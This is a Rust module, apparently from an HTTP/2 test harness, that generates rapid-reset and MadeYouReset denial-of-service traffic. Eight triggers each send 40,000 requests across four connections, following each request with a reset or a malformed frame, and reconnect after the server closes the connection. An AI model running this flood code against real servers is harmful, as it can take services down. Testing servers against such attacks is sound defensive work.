//! Streams that end before they are answered: by the client (rapid reset, CVE-2023-44487), or by the server because the
//! client makes it (MadeYouReset, CVE-2025-8671).

use super::arena::Arena;
use super::frames::{self, Block, END_STREAM, frame, kind};
use super::http2::{Http2, Setting};
use super::rows::Outcome;
use super::wire::Gone;

/// A kind of reset.
pub(super) struct Trigger {
    pub(super) name: &'static str,
    pub(super) does: &'static str,
    pub(super) run: fn(&Arena<'_>) -> Outcome,
}

/// Connections that attack at once.
const CONNECTIONS: usize = 4;

/// Streams that each of them gets rid of.
const STREAMS: usize = 10_000;

/// Steps that leave in one write.
const BATCH: usize = 50;

/// How often somebody comes back after being thrown out.
const RETURNS: usize = 5;

/// What takes the origin a second: the work would still run when its stream is gone.
const SLOW: &str = "/wait";

pub(super) const TRIGGERS: &[Trigger] = &[
    Trigger {
        name: "h2-rapid-reset",
        does: "40,000 requests, each reset by the client in the same write",
        run: |arena| after_each(arena, frames::reset),
    },
    Trigger {
        name: "h2-reset-window-zero",
        does: "40,000 requests, each followed by WINDOW_UPDATE of 0",
        run: |arena| after_each(arena, |out, stream| frames::window_update(out, stream, 0)),
    },
    Trigger {
        name: "h2-reset-window-overflow",
        does: "40,000 requests, each followed by WINDOW_UPDATE beyond 2^31-1",
        run: |arena| after_each(arena, |out, stream| frames::window_update(out, stream, 0x7fff_ffff)),
    },
    Trigger {
        name: "h2-reset-data-after-end",
        does: "40,000 requests, each followed by DATA after its end",
        run: |arena| after_each(arena, |out, stream| frame(out, kind::DATA, 0, stream, b"x")),
    },
    Trigger {
        name: "h2-reset-head-after-end",
        does: "40,000 requests, each followed by HEADERS after its end",
        run: |arena| {
            after_each(arena, |out, stream| {
                Block::default().literal("x", "y").headers(out, stream, END_STREAM);
            })
        },
    },
    Trigger {
        name: "h2-reset-own-parent",
        does: "40,000 requests, each followed by PRIORITY with itself as parent",
        run: |arena| {
            after_each(arena, |out, stream| {
                let [a, b, c, d] = stream.to_be_bytes();
                frame(out, kind::PRIORITY, 0, stream, &[a, b, c, d, 16]);
            })
        },
    },
    Trigger {
        name: "h2-reset-length",
        does: "40,000 requests whose body does not have the length that they say",
        run: |arena| {
            repeat(arena, &BURST, |client, out| {
                let stream = client.stream();
                Block::request("POST", SLOW).literal("content-length", "1").headers(out, stream, 0);
                frame(out, kind::DATA, END_STREAM, stream, b"five!");
            })
        },
    },
    Trigger {
        name: "h2-reset-after-head",
        does: "40,000 requests without an end, reset in the next write",
        run: late_resets,
    },
];

/// Requests for something slow, and what follows each of them at once.
fn after_each(arena: &Arena<'_>, then: fn(&mut Vec<u8>, u32)) -> Outcome {
    repeat(arena, &BURST, |client, out| {
        let stream = client.stream();
        Block::get(SLOW).headers(out, stream, END_STREAM);
        then(out, stream);
    })
}

/// Requests that live from one write to the next.
fn late_resets(arena: &Arena<'_>) -> Outcome {
    repeat(arena, &Burst { steps: STREAMS / BATCH, batch: 2, ..BURST }, |client, out| {
        let first = client.stream();
        Block::get(SLOW).headers(out, first, 0);
        for _ in 1..BATCH {
            let stream = client.stream();
            Block::get(SLOW).headers(out, stream, 0);
        }
        for stream in 0..BATCH as u32 {
            frames::reset(out, first + 2 * stream);
        }
    })
}

/// How much is sent.
#[derive(Clone, Copy)]
pub(super) struct Burst {
    pub(super) connections: usize,
    pub(super) steps: usize,
    pub(super) batch: usize,
    pub(super) settings: &'static [Setting],
}

pub(super) const BURST: Burst =
    Burst { connections: CONNECTIONS, steps: STREAMS, batch: BATCH, settings: &[] };

/// Does a step so many times on each connection, and comes back a few times when it is closed.
pub(super) fn repeat(
    arena: &Arena<'_>,
    burst: &Burst,
    step: impl Fn(&mut Http2, &mut Vec<u8>) + Sync,
) -> Outcome {
    repeat_after(arena, burst, |_| Ok(()), step)
}

/// The same on connections that something was done on before.
pub(super) fn repeat_after(
    arena: &Arena<'_>,
    burst: &Burst,
    prepare: impl Fn(&mut Http2) -> Result<(), Gone> + Sync,
    step: impl Fn(&mut Http2, &mut Vec<u8>) + Sync,
) -> Outcome {
    let counts = arena.at_once(burst.connections, |_| {
        let (mut goaways, mut left) = (0, burst.steps);
        for _ in 0..=RETURNS {
            let Ok(mut client) = Http2::open(arena.ports.http2, burst.settings, arena.until) else {
                continue;
            };
            let mut outcome = prepare(&mut client);
            while outcome.is_ok() && left > 0 && arena.going() {
                let mut bytes = Vec::new();
                (0..burst.batch).for_each(|_| step(&mut client, &mut bytes));
                left = left.saturating_sub(burst.batch);
                outcome = client.send(&bytes, arena.until);
            }
            if outcome.is_ok() {
                arena.hold();
                // What was said at the end is heard.
                drop(client.send(&[], arena.until));
            }
            goaways += client.seen.goaways;
            if left == 0 || !arena.going() {
                break;
            }
        }
        (goaways, left)
    });
    arena.hold();
    let left: usize = counts.iter().map(|(_, left)| left).sum();
    let notes = if left > 0 { vec![format!("{left} steps were not taken")] } else { Vec::new() };
    Outcome { goaways: counts.iter().map(|(goaways, _)| goaways).sum(), notes, ..Outcome::default() }
}
